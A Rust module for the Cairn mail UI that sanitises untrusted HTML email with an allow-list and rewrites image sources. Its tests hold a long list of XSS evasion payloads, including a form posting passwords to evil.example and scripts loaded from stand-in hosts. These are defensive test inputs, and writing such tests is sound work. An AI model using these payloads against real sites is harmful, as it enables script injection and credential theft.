//! Making an incoming HTML body safe to show inside Cairn's web UI.
//!
//! Incoming HTML is untrusted. [`sanitize_html`] keeps what reads like a
//! mail — text, formatting, tables, lists, links, quotes — and removes
//! everything that runs, loads or restyles: scripts, styles, frames,
//! objects, forms, SVG and MathML, event handlers, `style` attributes and
//! every URL scheme other than `http`, `https` and `mailto` on links.
//! Images are the one place where a URL from outside may appear, and only
//! after the caller has turned it into one of Cairn's own relative URLs.
//!
//! The work happens in two passes. `ammonia` parses the markup the way a
//! browser does and keeps only an allow-list of elements and attributes.
//! Its output is then read once more with html5ever's tokenizer to hand
//! every image source to the caller's `rewrite_image`, in document order,
//! and to mark the images that were dropped. The second pass only edits
//! `<img>` tags, so it cannot undo what the first one removed.

use std::borrow::Cow;
use std::cell::RefCell;
use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

use ammonia::{Builder, UrlRelative};
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{
    BufferQueue, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};

/// An HTML body made safe to embed in a Cairn page.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Sanitized {
    /// The cleaned markup: a fragment for the inside of a `<div>`.
    pub html: String,
    /// How many images with an `http:`/`https:` (or protocol-relative)
    /// source were dropped because `rewrite_image` returned no URL for
    /// them — what a "show remote images" prompt counts.
    pub blocked_remote_images: usize,
}

/// Sanitises an untrusted HTML body for display.
///
/// `rewrite_image` is called with every `<img src>` that survives the
/// first pass (`cid:`, `http(s):`, `data:`, relative — a source with a
/// dangerous scheme such as `javascript:` is removed before it and never
/// reaches it). It returns the URL to use, which must be one of Cairn's own
/// relative URLs such as `/attachments/…` or `/proxy/image?…`, or `None` to
/// drop the image. A returned URL that does not start with a single `/`, or
/// that contains whitespace or control characters, is refused as if `None`
/// had been returned.
///
/// A dropped image stays in the markup as an `<img>` without `src` that
/// keeps its `alt`, `width` and `height`, so browsers show its alt text
/// in its place, and carries `data-blocked="remote"` (an `http:`/`https:`
/// image, counted in [`Sanitized::blocked_remote_images`]) or
/// `data-blocked="unavailable"` (anything else, such as a `cid:` with no
/// matching attachment). The UI can style `img[data-blocked]`.
///
/// Links keep only `http:`, `https:` and `mailto:` targets and get
/// `rel="noopener noreferrer nofollow"` and `target="_blank"`. The quoting
/// markup of the common mail clients survives: `blockquote type="cite"`
/// (Apple Mail, Thunderbird), the classes `gmail_quote`, `gmail_attr`,
/// `gmail_signature`, `moz-cite-prefix`, `moz-signature`, `yahoo_quoted`
/// and the ids `divRplyFwdMsg`, `appendonsend` (Outlook) and
/// `yahoo_quoted_…`. Other classes and ids are removed, so a message
/// cannot borrow the styles or element ids of the page around it.
pub fn sanitize_html(html: &str, rewrite_image: &dyn Fn(&str) -> Option<String>) -> Sanitized {
    let cleaned = CLEANER.clean(html).to_string();
    let sink = ImageRewriter {
        rewrite_image,
        state: RefCell::new(RewriteState {
            out: String::with_capacity(cleaned.len()),
            blocked_remote_images: 0,
        }),
    };
    let tokenizer = Tokenizer::new(
        sink,
        TokenizerOpts {
            discard_bom: false,
            ..TokenizerOpts::default()
        },
    );
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(cleaned.as_str()));
    // The sink never asks for a script pause, so one feed reads it all.
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    let state = tokenizer.sink.state.into_inner();
    Sanitized {
        html: state.out,
        blocked_remote_images: state.blocked_remote_images,
    }
}

/// Elements kept, with their content. Everything else is unwrapped (its
/// children are kept) unless it is in [`DROPPED_WITH_CONTENT`].
///
/// None of these is parsed as raw text or RCDATA, which the second pass
/// relies on: its tokenizer always reads markup in the data state.
const TAGS: &[&str] = &[
    "a",
    "abbr",
    "address",
    "article",
    "aside",
    "b",
    "bdi",
    "bdo",
    "big",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "font",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "main",
    "mark",
    "nav",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "section",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "wbr",
];

/// Elements removed together with everything inside them: their content is
/// code, styles, another document or foreign markup, never text meant for
/// the reader.
const DROPPED_WITH_CONTENT: &[&str] = &[
    "script",
    "style",
    "svg",
    "math",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "template",
    "title",
    "textarea",
    "select",
    "xmp",
    "noembed",
    "noframes",
    "plaintext",
    "head",
];

/// Attributes allowed on every kept element.
const GENERIC_ATTRIBUTES: &[&str] = &["lang", "title", "dir", "align"];

/// Attributes allowed per element. URL attributes are only `a href` and
/// `img src`.
const TAG_ATTRIBUTES: &[(&str, &[&str])] = &[
    ("a", &["href", "hreflang"]),
    ("img", &["src", "alt", "width", "height", "border"]),
    (
        "table",
        &[
            "width",
            "border",
            "cellpadding",
            "cellspacing",
            "bgcolor",
            "summary",
        ],
    ),
    (
        "td",
        &[
            "width", "height", "colspan", "rowspan", "valign", "bgcolor", "nowrap",
        ],
    ),
    (
        "th",
        &[
            "width", "height", "colspan", "rowspan", "valign", "bgcolor", "nowrap", "scope",
        ],
    ),
    ("tr", &["valign", "bgcolor", "height"]),
    ("tbody", &["valign"]),
    ("thead", &["valign"]),
    ("tfoot", &["valign"]),
    ("col", &["span", "width"]),
    ("colgroup", &["span", "width"]),
    ("font", &["color", "face", "size"]),
    ("ol", &["start", "type", "reversed"]),
    ("ul", &["type"]),
    ("li", &["value", "type"]),
    ("hr", &["size", "width", "noshade"]),
    ("time", &["datetime"]),
    ("del", &["datetime"]),
    ("ins", &["datetime"]),
    ("details", &["open"]),
    // Only the quote markers survive the attribute filter.
    ("div", &["id"]),
    ("span", &["id"]),
    ("blockquote", &["id"]),
    ("hr", &["id"]),
];

/// Classes that mark quotes and signatures in the common mail clients.
const QUOTE_CLASSES: &[&str] = &[
    "gmail_quote",
    "gmail_attr",
    "gmail_extra",
    "gmail_signature",
    "moz-cite-prefix",
    "moz-signature",
    "yahoo_quoted",
];

/// Elements on which [`QUOTE_CLASSES`] are kept.
const CLASSED_TAGS: &[&str] = &["div", "span", "blockquote", "p", "pre"];

/// Ids that mark quotes in the common mail clients; `yahoo_quoted_` is a
/// prefix (Yahoo appends a number).
const QUOTE_IDS: &[&str] = &[
    "divRplyFwdMsg",
    "x_divRplyFwdMsg",
    "appendonsend",
    "x_appendonsend",
];

/// The first pass's configuration, built once.
static CLEANER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::empty();
    let mut tag_attributes: HashMap<&str, HashSet<&str>> = HashMap::new();
    for (tag, attrs) in TAG_ATTRIBUTES {
        tag_attributes
            .entry(tag)
            .or_default()
            .extend(attrs.iter().copied());
    }
    let classes: HashMap<&str, HashSet<&str>> = CLASSED_TAGS
        .iter()
        .map(|&tag| (tag, QUOTE_CLASSES.iter().copied().collect()))
        .collect();
    builder
        .tags(TAGS.iter().copied().collect())
        .clean_content_tags(DROPPED_WITH_CONTENT.iter().copied().collect())
        .generic_attributes(GENERIC_ATTRIBUTES.iter().copied().collect())
        .tag_attributes(tag_attributes)
        .tag_attribute_values(
            [(
                "blockquote",
                [("type", ["cite"].into_iter().collect())].into(),
            )]
            .into(),
        )
        .allowed_classes(classes)
        // `cid:`, `data:` and relative sources must reach the second pass,
        // where `rewrite_image` decides about them; links are narrowed to
        // http, https and mailto by `filter_attribute`.
        .url_schemes(["http", "https", "mailto", "cid", "data"].into())
        .url_relative(UrlRelative::PassThrough)
        .link_rel(Some("noopener noreferrer nofollow"))
        .set_tag_attribute_values([("a", [("target", "_blank")].into())].into())
        .strip_comments(true)
        .attribute_filter(filter_attribute);
    builder
});

/// The per-value rules ammonia's allow-lists cannot express.
fn filter_attribute<'u>(element: &str, attribute: &str, value: &'u str) -> Option<Cow<'u, str>> {
    match (element, attribute) {
        ("a", "href") => is_link_url(value).then_some(Cow::Borrowed(value)),
        (_, "dir") => matches!(
            value.trim().to_ascii_lowercase().as_str(),
            "ltr" | "rtl" | "auto"
        )
        .then_some(Cow::Borrowed(value)),
        ("ol" | "ul" | "li", "type") => {
            let known = ["1", "a", "A", "i", "I", "disc", "circle", "square", "none"];
            known
                .contains(&value.trim())
                .then_some(Cow::Borrowed(value))
        }
        (_, "id") => {
            let known = QUOTE_IDS.contains(&value) || value.starts_with("yahoo_quoted");
            known.then_some(Cow::Borrowed(value))
        }
        _ => Some(Cow::Borrowed(value)),
    }
}

/// Whether a link target is an absolute `http`, `https` or `mailto` URL,
/// read the way a browser reads it (tabs and newlines inside the scheme
/// are ignored, so `jav&#x09;ascript:` is `javascript:`).
fn is_link_url(value: &str) -> bool {
    url::Url::parse(value).is_ok_and(|u| matches!(u.scheme(), "http" | "https" | "mailto"))
}

/// Whether an image source loads from another host: `http:`, `https:` or
/// protocol-relative.
fn is_remote(src: &str) -> bool {
    let cleaned: String = src
        .trim_matches(|c: char| c <= ' ')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .take(8)
        .collect::<String>()
        .to_ascii_lowercase();
    cleaned.starts_with("http:")
        || cleaned.starts_with("https:")
        || cleaned.starts_with("//")
        || cleaned.starts_with("/\\")
        || cleaned.starts_with("\\\\")
        || cleaned.starts_with("\\/")
}

/// Whether a URL returned by `rewrite_image` is one of Cairn's own: a path
/// on the same origin. `//host` and `/\host` are other hosts to a browser,
/// and a browser drops tabs and newlines before it reads the URL, so
/// whitespace and control characters are refused outright.
fn is_own_relative_url(url: &str) -> bool {
    let mut chars = url.chars();
    chars.next() == Some('/')
        && !matches!(chars.next(), Some('/' | '\\'))
        && !url.chars().any(|c| c.is_whitespace() || c.is_control())
}

struct RewriteState {
    out: String,
    blocked_remote_images: usize,
}

/// The second pass: re-emits ammonia's output token by token, sending
/// each image source through the caller's rewrite.
struct ImageRewriter<'a> {
    rewrite_image: &'a dyn Fn(&str) -> Option<String>,
    state: RefCell<RewriteState>,
}

impl TokenSink for ImageRewriter<'_> {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        let mut state = self.state.borrow_mut();
        match token {
            Token::TagToken(tag) => match tag.kind {
                TagKind::StartTag => {
                    let mut attrs: Vec<(String, String)> = tag
                        .attrs
                        .iter()
                        // A class list left empty by the allow-list says nothing.
                        .filter(|a| !(&*a.name.local == "class" && a.value.trim().is_empty()))
                        .map(|a| (a.name.local.to_string(), a.value.to_string()))
                        .collect();
                    if &*tag.name == "img" {
                        self.rewrite_src(&mut attrs, &mut state);
                    }
                    // In name order, so that the output does not depend on
                    // how the first pass happened to shuffle them.
                    attrs.sort();
                    let out = &mut state.out;
                    out.push('<');
                    out.push_str(&tag.name);
                    for (name, value) in &attrs {
                        out.push(' ');
                        out.push_str(name);
                        out.push_str("=\"");
                        escape_attribute(value, out);
                        out.push('"');
                    }
                    out.push('>');
                }
                TagKind::EndTag => {
                    state.out.push_str("</");
                    state.out.push_str(&tag.name);
                    state.out.push('>');
                }
            },
            Token::CharacterTokens(text) => escape_text(&text, &mut state.out),
            Token::NullCharacterToken => state.out.push('\u{fffd}'),
            Token::CommentToken(_)
            | Token::DoctypeToken(_)
            | Token::EOFToken
            | Token::ParseError(_) => {}
        }
        TokenSinkResult::Continue
    }
}

impl ImageRewriter<'_> {
    fn rewrite_src(&self, attrs: &mut Vec<(String, String)>, state: &mut RewriteState) {
        let Some(at) = attrs.iter().position(|(name, _)| name == "src") else {
            return;
        };
        let (_, src) = attrs.remove(at);
        match (self.rewrite_image)(&src).filter(|url| is_own_relative_url(url)) {
            Some(url) => attrs.insert(at, ("src".to_string(), url)),
            None => {
                let reason = if is_remote(&src) {
                    state.blocked_remote_images += 1;
                    "remote"
                } else {
                    "unavailable"
                };
                attrs.push(("data-blocked".to_string(), reason.to_string()));
            }
        }
    }
}

fn escape_text(text: &str, out: &mut String) {
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '\u{a0}' => out.push_str("&nbsp;"),
            c => out.push(c),
        }
    }
}

fn escape_attribute(value: &str, out: &mut String) {
    for c in value.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '"' => out.push_str("&quot;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '\u{a0}' => out.push_str("&nbsp;"),
            c => out.push(c),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Serves `cid:` images from attachments and blocks everything else.
    fn attachments_only(src: &str) -> Option<String> {
        src.strip_prefix("cid:")
            .map(|cid| format!("/attachments/{}", cid.replace(['"', '<'], "")))
    }

    fn clean(html: &str) -> String {
        sanitize_html(html, &attachments_only).html
    }

    /// Tokenizes the output again and checks every tag and attribute
    /// against what may remain, so a test does not depend on the exact
    /// serialisation.
    fn assert_safe(input: &str, output: &str) {
        type StartTag = (String, Vec<(String, String)>);
        struct Collect(RefCell<Vec<StartTag>>);
        impl TokenSink for Collect {
            type Handle = ();
            fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
                if let Token::TagToken(tag) = token
                    && tag.kind == TagKind::StartTag
                {
                    let attrs = tag
                        .attrs
                        .iter()
                        .map(|a| (a.name.local.to_string(), a.value.to_string()))
                        .collect();
                    self.0.borrow_mut().push((tag.name.to_string(), attrs));
                }
                TokenSinkResult::Continue
            }
        }
        let tokenizer = Tokenizer::new(Collect(RefCell::new(Vec::new())), Default::default());
        let queue = BufferQueue::default();
        queue.push_back(StrTendril::from(output));
        let _ = tokenizer.feed(&queue);
        tokenizer.end();
        let allowed_attrs: HashSet<&str> = GENERIC_ATTRIBUTES
            .iter()
            .chain(TAG_ATTRIBUTES.iter().flat_map(|(_, a)| a.iter()))
            .chain(["class", "type", "rel", "target", "data-blocked"].iter())
            .copied()
            .collect();
        for (name, attrs) in tokenizer.sink.0.into_inner() {
            assert!(
                TAGS.contains(&name.as_str()),
                "{input:?} left <{name}> in {output:?}"
            );
            for (attr, value) in attrs {
                assert!(
                    allowed_attrs.contains(attr.as_str()) && !attr.starts_with("on"),
                    "{input:?} left {attr}= in {output:?}"
                );
                let lower = value.to_ascii_lowercase();
                for bad in ["javascript", "vbscript", "data:", "url(", "expression("] {
                    assert!(
                        !lower.contains(bad),
                        "{input:?} left {attr}={value:?} in {output:?}"
                    );
                }
                match attr.as_str() {
                    "href" => assert!(is_link_url(&value), "{input:?}: href {value:?}"),
                    "src" => assert!(is_own_relative_url(&value), "{input:?}: src {value:?}"),
                    _ => {}
                }
            }
        }
        let lower = output.to_ascii_lowercase();
        for bad in [
            "<script",
            "<style",
            "<svg",
            "<math",
            "<iframe",
            "<object",
            "<embed",
            "<form",
            "<input",
            "<link",
            "<meta",
            "<base",
            "<frame",
            "<textarea",
            "<button",
            "srcdoc",
            "srcset",
            "background",
            "style=",
            "http-equiv",
        ] {
            assert!(!lower.contains(bad), "{input:?} left {bad} in {output:?}");
        }
    }

    /// OWASP XSS filter evasion cheat sheet style inputs, and the ways mail
    /// smuggles active content.
    const HOSTILE: &[&str] = &[
        "<script>alert(1)</script>",
        "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<scr<script>ipt>alert(1)</script>",
        "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
        "<img src=\"x\" ONERROR=\"alert(1)\" onload=alert(2)>",
        "<img/src=x/onerror=alert(1)>",
        "<img srcset=\"http://evil.example/a.png 1x\" src=cid:ok>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">newline</a>",
        "<a href=\"&#106;avascript:alert(1)\">entity</a>",
        "<a href=\" javascript:alert(1)\">space</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">case</a>",
        "<a href=\"vbscript:msgbox(1)\">vb</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
        "<a href=\"DATA:text/html,<script>alert(1)</script>\">data</a>",
        "<a href=\"//evil.example/x\">protocol relative</a>",
        "<a href=\"/relative\" onclick=\"alert(1)\">relative</a>",
        "<a href=\"https://example.com\" onmouseover=\"alert(1)\" style=\"position:fixed\">ok</a>",
        "<svg><script>alert(1)</script></svg>",
        "<svg onload=alert(1)>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math href=\"javascript:alert(1)\">CLICKME</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<style>@import 'http://evil.example/x.css';</style>hello",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<div style=\"background:url(http://evil.example/track.png)\">bg</div>",
        "<div style=\"width: expression(alert('XSS'));\">ie</div>",
        "<p STYLE=\"behavior: url(xss.htc);\">x</p>",
        "<table background=\"http://evil.example/bg.png\"><tr><td background=\"javascript:alert(1)\">x</td></tr></table>",
        "<body background=\"javascript:alert(1)\" onload=alert(2)>body</body>",
        "<base href=\"http://evil.example/\"><a href=\"x\">x</a>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1);\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:alert('XSS');\">",
        "<link rel=stylesheet href=\"http://evil.example/x.css\">",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
        "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<embed src=\"http://evil.example/x.swf\">",
        "<form action=\"http://evil.example/steal\"><input name=password type=password><button formaction=javascript:alert(1)>go</button></form>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<video poster=javascript:alert(1)//></video>",
        "<audio src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<b <script>alert(1)</script>0",
        "<div><p><b><i>unclosed <a href=\"https://example.com\">link",
        "</div></div></div><script>alert(1)",
        "<table><tr><td><script>alert(1)</td></tr></table>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<xmp><script>alert(1)</script></xmp>",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><script>alert(1)</script></title>",
        "<!--<script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<img src=\"cid:x\" style=\"background:url(javascript:alert(1))\">",
        "<a href=\"https://example.com\" target=\"_self\" rel=\"opener\">ok</a>",
        "<div id=\"__proto__\" class=\"btn btn-danger\" name=\"csrf\">clobber</div>",
        "<span data-blocked=\"remote\" data-x=\"y\">fake marker</span>",
        "<a href=\"mailto:a@example.com\" ping=\"http://evil.example\">mail</a>",
        "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
        "<div>a</div><script>",
        "<select><option><iframe>",
        "<plaintext><script>alert(1)",
    ];

    #[test]
    fn hostile_inputs_leave_nothing_dangerous() {
        for input in HOSTILE {
            let out = clean(input);
            assert_safe(input, &out);
            // The output is a fixed point: cleaning it again changes nothing
            // but the markers of dropped images, which are Cairn's own.
            let unmarked = out
                .replace(r#" data-blocked="remote""#, "")
                .replace(r#" data-blocked="unavailable""#, "");
            let keep_own = |src: &str| {
                if src.starts_with("/attachments/") {
                    Some(src.to_string())
                } else {
                    attachments_only(src)
                }
            };
            let again = sanitize_html(&out, &keep_own).html;
            assert_eq!(again, unmarked, "not stable for {input:?}");
        }
    }

    #[test]
    fn links_get_rel_and_target() {
        let out = clean(
            r#"<a href="https://example.com/a?b=1&amp;c=2" target="_self" rel="opener">x</a>"#,
        );
        assert_eq!(
            out,
            r#"<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">x</a>"#
        );
        let out =
            clean(r#"<a href="javascript:alert(1)">x</a> <a href="mailto:a@example.com">m</a>"#);
        assert_eq!(
            out,
            r#"<a rel="noopener noreferrer nofollow" target="_blank">x</a> <a href="mailto:a@example.com" rel="noopener noreferrer nofollow" target="_blank">m</a>"#
        );
    }

    #[test]
    fn images_are_rewritten_blocked_and_counted() {
        let seen = RefCell::new(Vec::new());
        let rewrite = |src: &str| {
            seen.borrow_mut().push(src.to_string());
            attachments_only(src)
        };
        let html = concat!(
            r#"<p>Logo: <img src="cid:logo@shop" alt="Shop logo" width="100"></p>"#,
            r#"<img src="https://tracker.example/pixel.gif" width="1" height="1">"#,
            r#"<IMG SRC="http://cdn.example/photo.jpg" ALT="Photo of the damage" srcset="x 2x">"#,
            r#"<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">"#,
            r#"<img src="//cdn.example/x.png" alt="relative protocol">"#,
            r#"<img alt="no source">"#,
        );
        let result = sanitize_html(html, &rewrite);
        assert_eq!(
            seen.into_inner(),
            [
                "cid:logo@shop",
                "https://tracker.example/pixel.gif",
                "http://cdn.example/photo.jpg",
                "data:image/png;base64,iVBORw0KGgo=",
                "//cdn.example/x.png",
            ]
        );
        assert_eq!(result.blocked_remote_images, 3);
        assert_eq!(
            result.html,
            concat!(
                r#"<p>Logo: <img alt="Shop logo" src="/attachments/logo@shop" width="100"></p>"#,
                r#"<img data-blocked="remote" height="1" width="1">"#,
                r#"<img alt="Photo of the damage" data-blocked="remote">"#,
                r#"<img alt="inline" data-blocked="unavailable">"#,
                r#"<img alt="relative protocol" data-blocked="remote">"#,
                r#"<img alt="no source">"#,
            )
        );
    }

    #[test]
    fn rewritten_urls_must_be_cairns_own() {
        for returned in [
            "https://evil.example/x.png",
            "//evil.example/x.png",
            "/\\evil.example/x.png",
            "/\t/evil.example/x.png",
            "javascript:alert(1)",
            "data:image/png;base64,AAAA",
            "attachments/1",
            "",
        ] {
            let result = sanitize_html(r#"<img src="cid:a" alt="A">"#, &|_| {
                Some(returned.to_string())
            });
            assert_eq!(
                result.html, r#"<img alt="A" data-blocked="unavailable">"#,
                "{returned:?} was accepted"
            );
        }
        // A remote image through Cairn's proxy; the URL is escaped once.
        let result = sanitize_html(
            r#"<img src="https://cdn.example/a.png?x=1&amp;y=2">"#,
            &|src| Some(format!("/proxy/image?url={}", src.replace('&', "%26"))),
        );
        assert_eq!(
            result.html,
            r#"<img src="/proxy/image?url=https://cdn.example/a.png?x=1%26y=2">"#
        );
        assert_eq!(result.blocked_remote_images, 0);
    }

    #[test]
    fn quote_markup_of_mail_clients_survives() {
        let gmail = r#"<div dir="ltr">Yes</div><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Mon, Shop wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204)">Old</blockquote></div>"#;
        assert_eq!(
            clean(gmail),
            r#"<div dir="ltr">Yes</div><div class="gmail_quote"><div class="gmail_attr" dir="ltr">On Mon, Shop wrote:<br></div><blockquote class="gmail_quote">Old</blockquote></div>"#
        );
        let outlook = r##"<div id="appendonsend"></div><hr style="display:inline-block"><div id="divRplyFwdMsg" dir="ltr"><font face="Calibri" color="#000000"><b>From:</b> Shop</font></div>"##;
        assert_eq!(
            clean(outlook),
            r##"<div id="appendonsend"></div><hr><div dir="ltr" id="divRplyFwdMsg"><font color="#000000" face="Calibri"><b>From:</b> Shop</font></div>"##
        );
        let apple = r#"<blockquote type="cite"><div>On 1 Jan, Shop wrote:</div></blockquote>"#;
        assert_eq!(clean(apple), apple);
        let thunderbird = r#"<div class="moz-cite-prefix">Am 01.01.24 schrieb Shop:<br></div><blockquote type="cite" cite="mid:x@y">Alt</blockquote><pre class="moz-signature">-- 
Jane</pre>"#;
        assert_eq!(
            clean(thunderbird),
            "<div class=\"moz-cite-prefix\">Am 01.01.24 schrieb Shop:<br></div><blockquote type=\"cite\">Alt</blockquote><pre class=\"moz-signature\">-- \nJane</pre>"
        );
        let yahoo = r#"<div id="yahoo_quoted_123" class="yahoo_quoted extra">Old</div>"#;
        assert_eq!(
            clean(yahoo),
            r#"<div class="yahoo_quoted" id="yahoo_quoted_123">Old</div>"#
        );
    }

    #[test]
    fn tables_and_formatting_are_kept() {
        let html = r##"<table width="600" cellpadding="0" bgcolor="#ffffff" style="x"><tbody><tr><td colspan="2" valign="top"><h1>Order</h1><p><b>1 ×</b> <i>Mug</i> <u>€</u>&nbsp;9.99</p><ul><li>a</li></ul></td></tr></tbody></table>"##;
        assert_eq!(
            clean(html),
            r##"<table bgcolor="#ffffff" cellpadding="0" width="600"><tbody><tr><td colspan="2" valign="top"><h1>Order</h1><p><b>1 ×</b> <i>Mug</i> <u>€</u>&nbsp;9.99</p><ul><li>a</li></ul></td></tr></tbody></table>"##
        );
    }

    #[test]
    fn whole_documents_keep_only_their_body() {
        let html = "<!DOCTYPE html><html><head><title>T</title><style>p{color:red}</style><meta charset=utf-8></head><body style=\"margin:0\"><p>Hello &lt;world&gt; &amp; you</p></body></html>";
        assert_eq!(clean(html), "<p>Hello &lt;world&gt; &amp; you</p>");
    }

    #[test]
    fn text_that_looks_like_markup_stays_text() {
        let out = clean("a &lt;script&gt;alert(1)&lt;/script&gt; b");
        assert_eq!(out, "a &lt;script&gt;alert(1)&lt;/script&gt; b");
        let out = clean(r#"<span title="&quot;><script>alert(1)</script>">t</span>"#);
        assert_eq!(
            out,
            r#"<span title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">t</span>"#
        );
    }
}
